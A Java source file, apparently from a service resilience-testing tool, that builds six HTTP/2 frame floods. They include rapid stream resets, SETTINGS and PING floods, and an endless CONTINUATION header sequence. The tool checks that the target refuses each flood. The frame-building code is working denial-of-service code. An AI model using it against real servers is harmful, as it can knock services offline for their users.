package org.demarche.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Floods of HTTP/2 frames, on connections that begin with its preface. The service does not speak HTTP/2. */
final class Http2Attacks {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final int FRAMES = 20_000;
    private static final Outcome REFUSED = Outcome.status(505).or(Outcome.CLOSED);

    private Http2Attacks() {}

    static Stream<Attack> all() {
        return Stream.of(
                flood(
                        "HTTP/2: streams that are reset at once",
                        i -> concat(
                                frame(HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, request()),
                                frame(RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, 8}))),
                flood("HTTP/2: settings", i -> frame(SETTINGS, 0, 0, new byte[0])),
                flood("HTTP/2: pings", i -> frame(PING, 0, 0, new byte[8])),
                flood(
                        "HTTP/2: headers that never end",
                        i -> i == 0 ? frame(HEADERS, 0, 1, request()) : frame(CONTINUATION, 0, 1, header(i))),
                flood("HTTP/2: streams without data", i -> frame(HEADERS, 4, 2 * i + 1, request())),
                flood("HTTP/2: unknown frames", i -> frame(99, 0, 0, new byte[1000])));
    }

    private static Attack flood(String name, IntFunction<byte[]> frame) {
        return new Attack(Attack.Group.CONNECTIONS, name, REFUSED, target -> send(target, frame));
    }

    private static List<RawAnswer> send(Target target, IntFunction<byte[]> frame) throws IOException {
        try (Crowd crowd = Crowd.connect(target, 10, 10)) {
            crowd.send(concat(PREFACE, frame(SETTINGS, 0, 0, new byte[0])));
            crowd.sendInParallel(frames(frame));
            return crowd.answers();
        }
    }

    private static byte[] frames(IntFunction<byte[]> frame) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        IntStream.range(0, FRAMES).mapToObj(frame).forEach(all::writeBytes);
        return all.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    /** GET, in HPACK's notation: two entries of its table and two of our own. */
    private static byte[] request() {
        return concat(
                new byte[] {(byte) 0x82, (byte) 0x86},
                concat(entry(4, "/graphql?query=%7B__typename%7D"), entry(1, "localhost")));
    }

    private static byte[] entry(int name, String value) {
        return concat(new byte[] {(byte) name, (byte) value.length()}, value.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] header(int number) {
        String name = "x-" + number;
        return concat(
                concat(new byte[] {0, (byte) name.length()}, name.getBytes(StandardCharsets.US_ASCII)),
                new byte[] {1, 'a'});
    }

    private static byte[] concat(byte[] first, byte[] second) {
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(first);
        both.writeBytes(second);
        return both.toByteArray();
    }
}
